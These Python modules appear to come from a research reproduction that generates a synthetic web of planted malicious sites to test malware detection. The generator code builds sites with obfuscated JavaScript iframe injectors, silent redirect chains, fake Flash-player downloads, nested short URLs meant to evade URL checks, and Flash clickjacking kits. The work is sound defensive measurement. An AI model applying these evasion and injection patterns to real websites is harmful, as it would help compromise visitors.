        site.add_page(Page(
            path="/", title=self.forge.title(site.host, topic),
            html=self._page_shell(self.forge.title(site.host, topic), topic, "\n".join(parts)),
            truth=GroundTruth(True, family, "blacklisted domain"),
            subresource_urls=subresources,
        ))
        extra_path = self.forge.path()
        site.add_page(Page(
            path=extra_path, title=self.forge.title(site.host, topic),
            html=self._page_shell(self.forge.title(site.host, topic), topic,
                                  paragraphs(self.rng, topic, 2)),
            truth=GroundTruth(True, family, "blacklisted domain"),
        ))
        web.known_bad_domains.append(site.host)

    def _fill_js_file_site(self, web: GeneratedWeb, site: Site, family: MalwareFamily) -> None:
        parts, subresources = self._malicious_base_parts(web, site)
        target = self._frame_target_url(web)
        core = js_injected_iframe(self.rng, target, obfuscation_depth=0).html
        core_js = core.removeprefix('<script type="text/javascript">').removesuffix("</script>")
        packed = obfuscate(core_js, random_layers(self.rng, self.rng.randrange(1, 3)), self.rng)
        js_path = "/js/%s.js" % self.forge.token(8)
        site.add_resource(Resource(
            js_path, "application/javascript", packed.encode("utf-8"),
            GroundTruth(True, family, "packed injector"),
        ))
        js_url = site.url(js_path)
        parts.append('<script type="text/javascript" src="%s"></script>' % js_url)
        subresources.append(js_url)
        subresources.append(target)
        topic = self.rng.choice(CATEGORY_TOPICS[site.category.value])
        site.add_page(Page(
            path="/", title=self.forge.title(site.host, topic),
            html=self._page_shell(self.forge.title(site.host, topic), topic, "\n".join(parts)),
            truth=GroundTruth(True, family, "hosts packed js"),
            subresource_urls=subresources,
        ))

    def _fill_redirector_site(self, web: GeneratedWeb, site: Site, family: MalwareFamily) -> None:
        """Entry site whose page silently redirects through bridges."""
        length = self.rng.choice(self.config.redirect_chain_lengths)
        destination = self._redirect_destination(web)
        entry_path = "/%s.php" % self.forge.token(8)
        entry_url = site.url(entry_path)
        chain = build_chain(self.rng, entry_url, web.bridge_hosts, destination, length)
        # install each hop on its owning host
        for index, hop in enumerate(chain.hops):
            from .url import Url
            hop_url = Url.parse(chain.urls[index])
            # the entry hop lives on this site (not yet registered)
            owner = site if hop_url.host == site.host else web.registry.site(hop_url.host)
            if owner is not None:
                owner.behavior.redirects[hop_url.path] = hop
        # some redirectors rotate targets per request (Figure 9)
        if self.rng.random() < 0.3:
            rotate_path = "/%s.php" % self.forge.token(8)
            candidates = [self._redirect_destination(web) for _ in range(4)]
            site.behavior.rotating_redirects[rotate_path] = rotating_targets(self.rng, candidates)

        # the landing page members actually list: benign look + JS include
        include_js_path = "/t%s.js" % self.forge.token(6)
        site.add_resource(Resource(
            include_js_path, "application/javascript",
            redirect_script_body(entry_url, self.rng).encode("utf-8"),
            GroundTruth(True, family, "redirect script"),
        ))
        parts, subresources = self._malicious_base_parts(web, site)
        parts.append(benign_looking_include(site.url(include_js_path)))
        subresources.append(site.url(include_js_path))
        subresources.append(entry_url)
        topic = self.rng.choice(CATEGORY_TOPICS[site.category.value])
        site.add_page(Page(
            path="/", title=self.forge.title(site.host, topic),
            html=self._page_shell(self.forge.title(site.host, topic), topic, "\n".join(parts)),
            truth=GroundTruth(True, family, "chain length %d" % length),
            subresource_urls=subresources,
        ))

    def _redirect_destination(self, web: GeneratedWeb) -> str:
        roll = self.rng.random()
        if roll < 0.5 and web.malware_hosts:
            return self._frame_target_url(web)
        if roll < 0.8 and web.payload_hosts:
            return self.rng.choice(web.payload_hosts).url("/files/flashplayer.exe")
        return "http://www.theclickcheck%s.com/?sub=%d" % (
            self.forge.token(3), self.rng.randrange(10**9),
        )

    def _fill_shortened_site(self, web: GeneratedWeb, site: Site, family: MalwareFamily) -> None:
        """A site listed via malicious shortened URLs.

        The site itself carries a deceptive download; members list the
        *short* URL (sometimes nested) so the listing evades URL checks.
        """
        self._fill_download_site(web, site, family)
        page = next(iter(site.pages.values()))
        page.truth = GroundTruth(True, family, "behind short URL")
        directory = web.registry.shorteners
        host = self.rng.choice(list(directory.services))
        short = directory.shorten(host, site.url("/"))
        if self.rng.random() < 0.3:  # nested shortening
            outer_host = self.rng.choice(list(directory.services))
            short = directory.shorten(outer_host, short)
        site.truth.detail = short

    def _fill_flash_site(self, web: GeneratedWeb, site: Site, family: MalwareFamily) -> None:
        parts, subresources = self._malicious_base_parts(web, site)
        popup = "http://%s/pop?c=%d" % (
            self.rng.choice(web.malware_hosts).host, self.rng.randrange(10**6),
        )
        kit = build_flash_ad_kit(self.rng, site.url("").rstrip("/"), popup,
                                 obfuscation_depth=self.rng.randrange(1, 3))
        site.add_resource(Resource(kit.swf_path, "application/x-shockwave-flash",
                                   kit.swf_bytes,
                                   GroundTruth(True, family, "AdFlash")))
        site.add_resource(Resource(kit.loader_path, "application/javascript",
                                   kit.loader_js.encode("utf-8"),
                                   GroundTruth(True, family, "loader")))
        parts.append(kit.embed_html)
        subresources.append(site.url(kit.loader_path))
        subresources.append(site.url(kit.swf_path))
        topic = self.rng.choice(CATEGORY_TOPICS[site.category.value])
        site.add_page(Page(
            path="/", title=self.forge.title(site.host, topic),
            html=self._page_shell(self.forge.title(site.host, topic), topic, "\n".join(parts)),
            truth=GroundTruth(True, family, "flash clickjacking"),
            subresource_urls=subresources,
        ))
