"""Website content categories.

Figure 7 of the paper breaks malicious URLs down by content category as
reported by VirusTotal: business 58.6%, advertisement 21.8%,
entertainment 8.7%, information technology 8.6%, others 2.6%.  The
generator assigns every synthetic site a category; our simulated
VirusTotal reports it back (with a small labeling-noise rate), and the
analysis module rebuilds the histogram.
"""

from __future__ import annotations

import enum
import random
from typing import Dict

from .tlds import WeightedChoice

__all__ = [
    "ContentCategory",
    "MALICIOUS_CATEGORY_WEIGHTS",
    "BENIGN_CATEGORY_WEIGHTS",
    "CATEGORY_TOPICS",
]


class ContentCategory(str, enum.Enum):
    """Content categories used in Figure 7 (plus web infrastructure)."""

    BUSINESS = "business"
    ADVERTISEMENT = "advertisement"
    ENTERTAINMENT = "entertainment"
    INFORMATION_TECHNOLOGY = "information technology"
    NEWS = "news"
    EDUCATION = "education"
    SOCIAL = "social"
    OTHER = "other"

    def __str__(self) -> str:  # pragma: no cover - cosmetic
        return self.value


#: Category mix for sites that end up hosting malware (Figure 7 shape).
MALICIOUS_CATEGORY_WEIGHTS: Dict[str, float] = {
    ContentCategory.BUSINESS.value: 58.6,
    ContentCategory.ADVERTISEMENT.value: 21.8,
    ContentCategory.ENTERTAINMENT.value: 8.7,
    ContentCategory.INFORMATION_TECHNOLOGY.value: 8.6,
    ContentCategory.NEWS.value: 1.0,
    ContentCategory.EDUCATION.value: 0.8,
    ContentCategory.SOCIAL.value: 0.8,
}

#: Category mix for the benign remainder of the synthetic web — flatter,
#: as members of traffic exchanges list all kinds of sites.
BENIGN_CATEGORY_WEIGHTS: Dict[str, float] = {
    ContentCategory.BUSINESS.value: 30.0,
    ContentCategory.ADVERTISEMENT.value: 8.0,
    ContentCategory.ENTERTAINMENT.value: 20.0,
    ContentCategory.INFORMATION_TECHNOLOGY.value: 14.0,
    ContentCategory.NEWS.value: 12.0,
    ContentCategory.EDUCATION.value: 8.0,
    ContentCategory.SOCIAL.value: 8.0,
}

#: Topic words for page content generation, per category.  The paper notes
#: the business category "contained URLs pointing to online shopping,
#: online payments, and financial services", entertainment offers "free
#: services, such as URL shorteners, video streaming, games", and IT
#: covers "hosting and free web proxy services".
CATEGORY_TOPICS: Dict[str, tuple] = {
    ContentCategory.BUSINESS.value: (
        "online shopping", "payments", "invoices", "forex trading",
        "insurance quotes", "loans", "credit score", "dropshipping",
    ),
    ContentCategory.ADVERTISEMENT.value: (
        "cpm network", "banner rotation", "ad impressions", "popunder",
        "interstitial", "affiliate offers", "ptc clicks",
    ),
    ContentCategory.ENTERTAINMENT.value: (
        "free streaming", "online games", "movie downloads", "anime",
        "music videos", "celebrity news", "url shortener",
    ),
    ContentCategory.INFORMATION_TECHNOLOGY.value: (
        "free hosting", "web proxy", "vps servers", "seo tools",
        "website templates", "dns tools", "speed test",
    ),
    ContentCategory.NEWS.value: (
        "breaking news", "local headlines", "weather", "politics",
    ),
    ContentCategory.EDUCATION.value: (
        "online courses", "tutorials", "exam preparation", "homework help",
    ),
    ContentCategory.SOCIAL.value: (
        "chat rooms", "forums", "photo sharing", "pen pals",
    ),
}


def sample_category(rng: random.Random, malicious: bool) -> ContentCategory:
    """Sample a content category for a new site."""
    weights = MALICIOUS_CATEGORY_WEIGHTS if malicious else BENIGN_CATEGORY_WEIGHTS
    return ContentCategory(WeightedChoice(weights).sample(rng))


#: Pre-built samplers (building the cumulative table per call is wasteful
#: when generating tens of thousands of sites).
MALICIOUS_CATEGORY_SAMPLER = WeightedChoice(MALICIOUS_CATEGORY_WEIGHTS)
BENIGN_CATEGORY_SAMPLER = WeightedChoice(BENIGN_CATEGORY_WEIGHTS)
