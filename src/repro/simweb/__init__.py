"""Synthetic web substrate.

Replaces the live World Wide Web the paper crawled: URL machinery,
domains and TLD/content-category catalogs, site/page/resource models,
URL shortening services with public hit statistics, and the registry the
HTTP layer serves from.  The populated web is built by
:class:`repro.simweb.generator.WebGenerator` (which plants malware via
:mod:`repro.malware`).
"""

from .categories import (
    BENIGN_CATEGORY_WEIGHTS,
    CATEGORY_TOPICS,
    MALICIOUS_CATEGORY_WEIGHTS,
    ContentCategory,
)
from .naming import NameForge
from .popular import BENIGN_INFRA_DOMAINS, POPULAR_DOMAINS, is_popular_url, is_self_referral
from .registry import WebRegistry
from .shortener import SHORTENER_HOSTS, ShortenerDirectory, ShortenerService, ShortUrlStats
from .site import (
    GroundTruth,
    MalwareFamily,
    Page,
    RedirectHop,
    Resource,
    ServerBehavior,
    Site,
)
from .tlds import BENIGN_TLD_WEIGHTS, MALICIOUS_TLD_WEIGHTS, WeightedChoice
from .url import Url, UrlError, encode_query, parse_query

__all__ = [
    "BENIGN_CATEGORY_WEIGHTS",
    "BENIGN_INFRA_DOMAINS",
    "BENIGN_TLD_WEIGHTS",
    "CATEGORY_TOPICS",
    "ContentCategory",
    "GroundTruth",
    "MALICIOUS_CATEGORY_WEIGHTS",
    "MALICIOUS_TLD_WEIGHTS",
    "MalwareFamily",
    "NameForge",
    "POPULAR_DOMAINS",
    "Page",
    "RedirectHop",
    "Resource",
    "SHORTENER_HOSTS",
    "ServerBehavior",
    "ShortUrlStats",
    "ShortenerDirectory",
    "ShortenerService",
    "Site",
    "Url",
    "UrlError",
    "WebRegistry",
    "WeightedChoice",
    "encode_query",
    "is_popular_url",
    "is_self_referral",
    "parse_query",
]
