"""URL shortening services with public hit statistics.

Section IV-A5 / Table IV: the paper resolves malicious shortened URLs
(goo.gl, bit.ly, j.mp, tiny.cc, zapit.nu, tr.im) and reads each
service's public hit statistics — total hits, hits on the long URL, top
visitor country, and top referrer.  This module models those services:
slug minting, resolution (including *nested* shortening, which the paper
notes makes detection harder), and per-slug hit accounting that the
exchanges' surf traffic feeds.
"""

from __future__ import annotations

import random
from collections import Counter
from dataclasses import dataclass, field
from typing import Dict, List, Optional

__all__ = ["ShortUrlStats", "ShortenerService", "ShortenerDirectory", "SHORTENER_HOSTS"]

#: Hosts of the shortening services seen in the paper's data set.
SHORTENER_HOSTS = ("goo.gl", "bit.ly", "j.mp", "tiny.cc", "zapit.nu", "tr.im", "mbcurl.me")


@dataclass
class ShortUrlStats:
    """Publicly visible statistics for one shortened URL."""

    slug: str
    long_url: str
    hits: int = 0
    referrer_counts: Counter = field(default_factory=Counter)
    country_counts: Counter = field(default_factory=Counter)

    @property
    def top_referrer(self) -> str:
        if not self.referrer_counts:
            return "-"
        return self.referrer_counts.most_common(1)[0][0]

    @property
    def top_country(self) -> str:
        if not self.country_counts:
            return "-"
        return self.country_counts.most_common(1)[0][0]


class ShortenerService:
    """One shortening service (e.g. goo.gl)."""

    def __init__(self, host: str, rng: random.Random) -> None:
        self.host = host
        self._rng = rng
        self._by_slug: Dict[str, ShortUrlStats] = {}
        #: long URL -> slugs pointing at it (a long URL may have several,
        #: which the paper notes inflates its hit count)
        self._by_long: Dict[str, List[str]] = {}

    # -- minting -----------------------------------------------------------
    def shorten(self, long_url: str, slug: Optional[str] = None) -> str:
        """Create (or reuse) a short URL; returns the full short URL."""
        if slug is None:
            alphabet = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"
            while True:
                slug = "".join(self._rng.choice(alphabet) for _ in range(6))
                if slug not in self._by_slug:
                    break
        if slug in self._by_slug and self._by_slug[slug].long_url != long_url:
            raise ValueError("slug %r already in use" % slug)
        if slug not in self._by_slug:
            self._by_slug[slug] = ShortUrlStats(slug=slug, long_url=long_url)
            self._by_long.setdefault(long_url, []).append(slug)
        return "http://%s/%s" % (self.host, slug)

    # -- resolution ----------------------------------------------------------
    def resolve(self, slug: str, referrer: str = "", country: str = "") -> Optional[str]:
        """Resolve a slug, recording the hit; None for unknown slugs."""
        stats = self._by_slug.get(slug)
        if stats is None:
            return None
        stats.hits += 1
        if referrer:
            stats.referrer_counts[referrer] += 1
        if country:
            stats.country_counts[country] += 1
        return stats.long_url

    # -- public statistics API ------------------------------------------------
    def stats(self, slug: str) -> Optional[ShortUrlStats]:
        return self._by_slug.get(slug)

    def long_url_hits(self, long_url: str) -> int:
        """Aggregate hits across every slug pointing at ``long_url``."""
        return sum(self._by_slug[s].hits for s in self._by_long.get(long_url, ()))

    def slugs(self) -> List[str]:
        return list(self._by_slug)


class ShortenerDirectory:
    """All shortening services; resolves any short URL and follows nesting."""

    def __init__(self, rng: random.Random, hosts: tuple = SHORTENER_HOSTS) -> None:
        self.services: Dict[str, ShortenerService] = {
            host: ShortenerService(host, rng) for host in hosts
        }

    def is_short_host(self, host: str) -> bool:
        return host in self.services

    def service(self, host: str) -> ShortenerService:
        return self.services[host]

    def shorten(self, host: str, long_url: str, slug: Optional[str] = None) -> str:
        return self.services[host].shorten(long_url, slug)

    def resolve_url(self, url: str, referrer: str = "", country: str = "") -> Optional[str]:
        """Resolve one level of shortening for a full short URL string."""
        host, _, slug = url.partition("://")[2].partition("/")
        service = self.services.get(host)
        if service is None or not slug:
            return None
        return service.resolve(slug.split("?")[0], referrer=referrer, country=country)

    def resolve_fully(self, url: str, referrer: str = "", country: str = "",
                      max_depth: int = 5) -> tuple:
        """Follow nested short URLs; returns (final_url, chain).

        The chain includes each intermediate short URL.  Nested
        shortening deeper than ``max_depth`` stops (defensive bound).
        """
        chain: List[str] = [url]
        current = url
        for _ in range(max_depth):
            resolved = self.resolve_url(current, referrer=referrer, country=country)
            if resolved is None:
                break
            chain.append(resolved)
            current = resolved
            host = current.partition("://")[2].partition("/")[0]
            if host not in self.services:
                break
        return current, chain
