"""Deterministic name generation for the synthetic web.

Produces plausible domain names, paths, and page titles from seeded
randomness.  Word lists are flavoured by content category so that a
"business" site gets shopping/finance-ish names — the paper's Figure 7
drill-down depends on category-consistent content.
"""

from __future__ import annotations

import random
from typing import List, Optional, Sequence

__all__ = ["NameForge"]

_PREFIXES = (
    "easy", "best", "top", "my", "the", "go", "pro", "smart", "fast",
    "mega", "ultra", "prime", "net", "web", "cyber", "click", "true",
    "real", "super", "daily", "insta", "quick", "free", "hot", "big",
)

_CORES = {
    "business": ("shop", "pay", "deal", "market", "trade", "cash", "loan",
                 "invest", "forex", "store", "offer", "coupon", "bazaar"),
    "advertisement": ("ads", "banner", "click", "impress", "promo", "traffic",
                      "cpm", "popup", "media", "reach", "views"),
    "entertainment": ("stream", "movie", "game", "anime", "video", "music",
                      "fun", "play", "tube", "flix", "toon"),
    "information technology": ("host", "proxy", "server", "cloud", "code",
                               "dev", "tech", "byte", "data", "seo", "dns"),
    "news": ("news", "press", "daily", "times", "report", "headline"),
    "education": ("learn", "study", "course", "tutor", "exam", "academy"),
    "social": ("chat", "friend", "social", "forum", "share", "connect"),
    "other": ("site", "page", "zone", "spot", "hub", "portal"),
}

_SUFFIXES = (
    "hub", "zone", "spot", "land", "point", "base", "city", "world",
    "place", "line", "link", "way", "box", "lab", "center", "depot",
)

_PATH_WORDS = (
    "index", "home", "offers", "deals", "download", "free", "online",
    "best", "new", "top", "latest", "win", "bonus", "promo", "landing",
    "page", "view", "item", "category", "special",
)

_TITLE_TEMPLATES = (
    "{word} — {topic}",
    "{topic} | {word}",
    "Welcome to {word}",
    "{word}: {topic} and more",
    "Best {topic} online — {word}",
)


class NameForge:
    """Seeded generator of domains, paths, and titles.

    All methods draw from the supplied :class:`random.Random`, so callers
    control determinism.  Generated domain labels are unique per forge.
    """

    def __init__(self, rng: random.Random) -> None:
        self._rng = rng
        self._used: set = set()

    def domain_label(self, category: str = "other") -> str:
        """A unique second-level label like ``easyshopzone``."""
        cores: Sequence[str] = _CORES.get(category, _CORES["other"])
        for _ in range(1000):
            parts: List[str] = []
            if self._rng.random() < 0.7:
                parts.append(self._rng.choice(_PREFIXES))
            parts.append(self._rng.choice(cores))
            if self._rng.random() < 0.6:
                parts.append(self._rng.choice(_SUFFIXES))
            if self._rng.random() < 0.35:
                parts.append(str(self._rng.randrange(1, 1000)))
            label = "".join(parts)
            if label not in self._used:
                self._used.add(label)
                return label
        # astronomically unlikely at our scales; make uniqueness certain
        label = "site%d" % self._rng.randrange(10**9)
        self._used.add(label)
        return label

    def domain(self, category: str, tld: str) -> str:
        return "%s.%s" % (self.domain_label(category), tld)

    def path(self, depth: Optional[int] = None, extension: str = "html") -> str:
        """A path like ``/offers/download/page7.html``."""
        if depth is None:
            depth = self._rng.randrange(1, 4)
        segments = [self._rng.choice(_PATH_WORDS) for _ in range(depth - 1)]
        leaf = "%s%d" % (self._rng.choice(_PATH_WORDS), self._rng.randrange(1, 100))
        if extension:
            leaf += "." + extension
        segments.append(leaf)
        return "/" + "/".join(segments)

    def title(self, domain: str, topic: str) -> str:
        word = domain.split(".")[0].capitalize()
        template = self._rng.choice(_TITLE_TEMPLATES)
        return template.format(word=word, topic=topic)

    def token(self, length: int = 8, alphabet: str = "abcdefghijklmnopqrstuvwxyz0123456789") -> str:
        """A random token, e.g. for shortened-URL slugs or campaign ids."""
        return "".join(self._rng.choice(alphabet) for _ in range(length))
