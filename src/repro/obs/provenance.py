"""Per-URL verdict provenance: the pipeline's flight recorder.

The headline number (≈26% of regular URLs malicious) is the end of a
chain of decisions — crawl fetch, redirect following, the staticjs
pre-filter, the dynamic sandbox, each simulated engine, and the final
aggregation.  End-state counters say *how many* URLs were flagged; a
:class:`VerdictProvenance` record says *why one specific URL* was,
stage by stage, with the evidence each stage contributed and a
deterministic simulated duration per stage.

Records are built on the scan path (see
:meth:`repro.detection.aggregate.UrlVerdictService.verdict`) and the
crawl-side stages are prepended by the pipeline from its dataset, so a
record reads front to back as the URL's whole life: crawl → redirect →
staticjs → sandbox → engine:* → tool:* → blacklists → aggregate.

Everything here is a pure function of the artifact and the seed: stage
durations come from content-keyed hashing, never a live clock, so the
provenance store of a ``workers=4`` run is **bit-identical** to the
serial run's — the property the scanexec merge tests pin.

Storage is JSON-lines (one record per line, append-friendly), the same
container the event log uses, and `repro explain <url>` renders one
record as a human-readable decision chain.
"""

from __future__ import annotations

import json
from dataclasses import dataclass, field
from typing import Dict, Iterator, List, Optional, TextIO

__all__ = [
    "STAGE_CRAWL",
    "STAGE_REDIRECT",
    "STAGE_STATICJS",
    "STAGE_SANDBOX",
    "STAGE_ENGINE_PREFIX",
    "STAGE_TOOL_PREFIX",
    "STAGE_BLACKLISTS",
    "STAGE_AGGREGATE",
    "StageRecord",
    "VerdictProvenance",
    "ProvenanceStore",
    "render_provenance",
]

#: canonical stage names, in pipeline order
STAGE_CRAWL = "crawl"
STAGE_REDIRECT = "redirect"
STAGE_STATICJS = "staticjs"
STAGE_SANDBOX = "sandbox"
STAGE_ENGINE_PREFIX = "engine:"
STAGE_TOOL_PREFIX = "tool:"
STAGE_BLACKLISTS = "blacklists"
STAGE_AGGREGATE = "aggregate"


@dataclass
class StageRecord:
    """One stage's contribution to a verdict.

    ``outcome`` is the stage's one-word result (e.g. ``"detected"``,
    ``"clean"``, ``"skipped"``); ``evidence`` holds whatever structured
    facts the stage decided on — JSON-safe values only, so the record
    round-trips through the JSON-lines store losslessly.
    """

    name: str
    outcome: str
    #: simulated seconds this stage cost — deterministic (content-keyed),
    #: never wall-clock, so parallel and serial runs agree bit for bit
    duration: float = 0.0
    evidence: Dict[str, object] = field(default_factory=dict)

    def to_dict(self) -> Dict[str, object]:
        return {
            "name": self.name,
            "outcome": self.outcome,
            "duration": self.duration,
            "evidence": dict(self.evidence),
        }

    @classmethod
    def from_dict(cls, data: Dict[str, object]) -> "StageRecord":
        return cls(
            name=str(data["name"]),
            outcome=str(data["outcome"]),
            duration=float(data.get("duration", 0.0)),  # type: ignore[arg-type]
            evidence=dict(data.get("evidence", {})),  # type: ignore[arg-type]
        )


@dataclass
class VerdictProvenance:
    """The full decision chain behind one URL's verdict."""

    url: str
    malicious: bool
    stages: List[StageRecord] = field(default_factory=list)

    # -- reading -------------------------------------------------------------
    @property
    def total_duration(self) -> float:
        return sum(stage.duration for stage in self.stages)

    def stage_names(self) -> List[str]:
        return [stage.name for stage in self.stages]

    def stage(self, name: str) -> Optional[StageRecord]:
        """First stage named ``name`` (engine stages repeat; use stages)."""
        for record in self.stages:
            if record.name == name:
                return record
        return None

    def engine_stages(self) -> List[StageRecord]:
        return [s for s in self.stages if s.name.startswith(STAGE_ENGINE_PREFIX)]

    # -- (de)serialization ---------------------------------------------------
    def to_dict(self) -> Dict[str, object]:
        return {
            "url": self.url,
            "malicious": self.malicious,
            "stages": [stage.to_dict() for stage in self.stages],
        }

    def to_json(self) -> str:
        return json.dumps(self.to_dict(), sort_keys=True)

    @classmethod
    def from_dict(cls, data: Dict[str, object]) -> "VerdictProvenance":
        return cls(
            url=str(data["url"]),
            malicious=bool(data["malicious"]),
            stages=[StageRecord.from_dict(s) for s in data.get("stages", [])],  # type: ignore[union-attr]
        )


class ProvenanceStore:
    """Ordered per-URL store of :class:`VerdictProvenance` records.

    Insertion order is the scan workload order; both the serial loop and
    the executor merge insert in that order, which is what makes
    :meth:`to_jsonl` comparable byte for byte across worker counts.

    With ``path`` set, the store doubles as a **crash-safe flight
    recorder**: every :meth:`add` writes the record through to the
    JSON-lines file and flushes, so a pipeline that raises mid-run still
    leaves every completed verdict's chain on disk.  Use it as a context
    manager (or call :meth:`close`, which is idempotent) to release the
    file handle; the in-memory dict keeps working after close.
    """

    def __init__(self, path: Optional[str] = None) -> None:
        self.records: Dict[str, VerdictProvenance] = {}
        self.path = path
        self._sink: Optional[TextIO] = None
        if path is not None:
            self._sink = open(path, "w", encoding="utf-8")

    # -- writing -------------------------------------------------------------
    def add(self, record: VerdictProvenance) -> None:
        self.records[record.url] = record
        if self._sink is not None:
            self._sink.write(record.to_json())
            self._sink.write("\n")
            # flushed per record: crash-safety is the point of the sink
            self._sink.flush()

    def close(self) -> None:
        """Flush and release the JSON-lines sink (idempotent)."""
        if self._sink is not None:
            self._sink.close()
            self._sink = None

    def __enter__(self) -> "ProvenanceStore":
        return self

    def __exit__(self, *exc_info: object) -> None:
        self.close()

    # -- reading -------------------------------------------------------------
    def __len__(self) -> int:
        return len(self.records)

    def __contains__(self, url: str) -> bool:
        return url in self.records

    def __iter__(self) -> Iterator[VerdictProvenance]:
        return iter(self.records.values())

    def get(self, url: str) -> Optional[VerdictProvenance]:
        return self.records.get(url)

    def urls(self) -> List[str]:
        return list(self.records)

    def stage_mix(self) -> Dict[str, int]:
        """How many records traversed each stage (engine:*/tool:* kept)."""
        mix: Dict[str, int] = {}
        for record in self.records.values():
            for stage in record.stages:
                mix[stage.name] = mix.get(stage.name, 0) + 1
        return dict(sorted(mix.items()))

    def mean_stages(self) -> float:
        if not self.records:
            return 0.0
        return sum(len(r.stages) for r in self.records.values()) / len(self.records)

    # -- (de)serialization ---------------------------------------------------
    def to_jsonl(self) -> str:
        return "\n".join(record.to_json() for record in self.records.values())

    @classmethod
    def from_jsonl(cls, text: str) -> "ProvenanceStore":
        store = cls()
        for line in text.splitlines():
            line = line.strip()
            if line:
                store.add(VerdictProvenance.from_dict(json.loads(line)))
        return store


def _format_evidence(evidence: Dict[str, object]) -> str:
    parts = []
    for key in sorted(evidence):
        value = evidence[key]
        if isinstance(value, float):
            parts.append("%s=%.3g" % (key, value))
        elif isinstance(value, (list, tuple)):
            parts.append("%s=%s" % (key, ",".join(str(v) for v in value) or "-"))
        else:
            parts.append("%s=%s" % (key, value))
    return " ".join(parts)


def render_provenance(record: VerdictProvenance,
                      include_clean_engines: bool = False) -> str:
    """Human-readable decision chain for one URL (the `repro explain` view).

    Engine stages that did not detect are folded into one summary line
    unless ``include_clean_engines`` is set — a pool of a dozen clean
    engines is noise when the question is "why was this flagged?".
    """
    lines = [
        "Verdict provenance: %s" % record.url,
        "  final verdict: %s  (simulated cost %.3fs over %d stages)"
        % ("MALICIOUS" if record.malicious else "benign",
           record.total_duration, len(record.stages)),
        "",
    ]
    clean_engines: List[str] = []
    for stage in record.stages:
        if (stage.name.startswith(STAGE_ENGINE_PREFIX)
                and stage.outcome == "clean" and not include_clean_engines):
            clean_engines.append(stage.name[len(STAGE_ENGINE_PREFIX):])
            continue
        evidence = _format_evidence(stage.evidence)
        lines.append("  %-22s %-10s %8.3fs%s"
                     % (stage.name, stage.outcome, stage.duration,
                        ("  " + evidence) if evidence else ""))
    if clean_engines:
        lines.append("  %-22s %-10s %9s  %d engines saw nothing: %s"
                     % ("engine:(clean)", "clean", "", len(clean_engines),
                        ", ".join(clean_engines)))
    return "\n".join(lines)
