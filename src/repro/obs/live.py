"""Live run telemetry: the streaming layer that runs *during* a pipeline.

Everything else in :mod:`repro.obs` describes a run after it ends — the
report, the provenance store, the work ledger are post-hoc artifacts.
This module is the in-flight view the paper's months-long measurement
would have needed: sliding-window time series, per-phase/per-shard
progress, and health findings, all emitted while the crawl and scan are
still running.

Three cooperating pieces:

* :class:`TimeSeriesStore` — ring-buffered sliding windows of counter
  rates, gauge samples, and latency quantiles, fed from the observer's
  metric stream at **heartbeat instants** on the injected clock.
  Heartbeats fire only at points that coincide between the serial loop
  and the :class:`~repro.phasexec.recording.RecordingObserver` replay
  path (end of exchange, every N scanned URLs), so the series of a
  ``workers=4`` run is bit-identical to serial.
* :class:`Watchdog` — in-flight health checks over the live state:
  stalled shards, budget-exhaustion storms in the JS sandbox, and
  verdict-rate drift against the committed baseline, surfaced as typed
  :class:`HealthFinding` records.
* the **status sink** — a crash-safe append-only JSON-lines file
  (write-through + flush per record, the same discipline as
  :class:`~repro.obs.provenance.ProvenanceStore`) that ``repro watch``
  tails.  :class:`LiveRunState` folds status lines back into the same
  snapshot shape the in-process telemetry exposes, so the watcher, the
  ``repro obs-report --status`` section, and the live object all share
  one schema.

The live layer is a **side channel**: it never writes into the
observer's metrics, events, or spans, so a run's telemetry report is
trivially bit-identical with the sink on or off.  Every timestamp comes
off the injected clock — this file is the one ``repro.obs`` module that
the determinism lint *forbids* from reading the wall clock.
"""

from __future__ import annotations

import json
from dataclasses import dataclass, field
from typing import Any, Dict, Iterable, List, Optional, TextIO, Tuple

from .clock import Clock
from .metrics import Histogram, MetricsRegistry

__all__ = [
    "KIND_BUDGET_STORM",
    "KIND_STALLED_SHARD",
    "KIND_VERDICT_DRIFT",
    "HealthFinding",
    "LiveRunState",
    "LiveTelemetry",
    "TimeSeries",
    "TimeSeriesStore",
    "Watchdog",
    "fold_status_lines",
    "load_status_snapshot",
    "parse_status_text",
    "render_status_text",
]

#: counters sampled (as cumulative totals) into the time series at every
#: heartbeat; rates derive from deltas between heartbeat instants
TRACKED_COUNTERS = (
    "crawl.steps",
    "http.requests",
    "scan.urls",
    "scan.verdict.benign",
    "scan.verdict.malicious",
)

#: gauges sampled by value (high-water marks) at every heartbeat
TRACKED_GAUGES = ("js.op_count",)

#: (histogram, quantile) pairs sampled at every heartbeat; the series is
#: named ``<histogram>:p<q>``
TRACKED_QUANTILES = (("http.fetch.seconds", 0.95),)

#: typed health-finding kinds
KIND_STALLED_SHARD = "stalled_shard"
KIND_BUDGET_STORM = "budget_storm"
KIND_VERDICT_DRIFT = "verdict_drift"


# ---------------------------------------------------------------------------
# Time series
# ---------------------------------------------------------------------------
class TimeSeries:
    """One named ring of ``(t, value)`` samples on the simulated clock."""

    __slots__ = ("name", "kind", "capacity", "points")

    def __init__(self, name: str, kind: str, capacity: int) -> None:
        self.name = name
        #: "counter" (cumulative totals; rates derive from deltas),
        #: "gauge", or "quantile" (point-in-time values)
        self.kind = kind
        self.capacity = max(2, capacity)
        self.points: List[Tuple[float, float]] = []

    def add(self, t: float, value: float) -> None:
        self.points.append((float(t), float(value)))
        if len(self.points) > self.capacity:
            del self.points[0]

    def last(self) -> Optional[Tuple[float, float]]:
        return self.points[-1] if self.points else None

    def window(self, now: float, seconds: float) -> List[Tuple[float, float]]:
        """Samples inside the sliding window ``[now - seconds, now]``."""
        cutoff = now - seconds
        return [point for point in self.points if point[0] >= cutoff]

    def rate(self, now: float, seconds: float) -> float:
        """Per-second rate over the window (counter series only).

        Counter samples are cumulative totals, so the windowed rate is
        the delta between the oldest and newest in-window samples over
        their elapsed simulated time; 0.0 when time has not moved.
        """
        points = self.window(now, seconds)
        if len(points) < 2:
            return 0.0
        (t0, v0), (t1, v1) = points[0], points[-1]
        if t1 <= t0:
            return 0.0
        return (v1 - v0) / (t1 - t0)


class TimeSeriesStore:
    """Create-on-first-use registry of ring-buffered time series."""

    def __init__(self, capacity: int = 240, window_seconds: float = 300.0) -> None:
        self.capacity = capacity
        #: default sliding-window width for rates and snapshots
        self.window_seconds = window_seconds
        self._series: Dict[str, TimeSeries] = {}

    def series(self, name: str, kind: str = "gauge") -> TimeSeries:
        existing = self._series.get(name)
        if existing is None:
            existing = self._series[name] = TimeSeries(name, kind, self.capacity)
        return existing

